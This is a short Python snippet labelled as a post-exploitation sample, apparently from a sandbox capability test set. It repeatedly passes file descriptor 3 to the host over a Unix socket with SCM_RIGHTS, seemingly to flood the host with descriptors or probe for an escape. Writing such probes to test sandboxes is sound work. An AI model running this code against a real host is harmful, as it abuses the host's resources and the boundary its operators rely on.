# kind=cap; source: post-exploitation: descriptors sent to the host with frames
import array, ctypes, os, socket
if hasattr(socket, "socket"):
    wire = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=3)
    rights = array.array("i", [3] * 10)
    for _ in range(200):
        try:
            wire.sendmsg([b"\1\0\0\0\x11x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            break
    wire.detach()
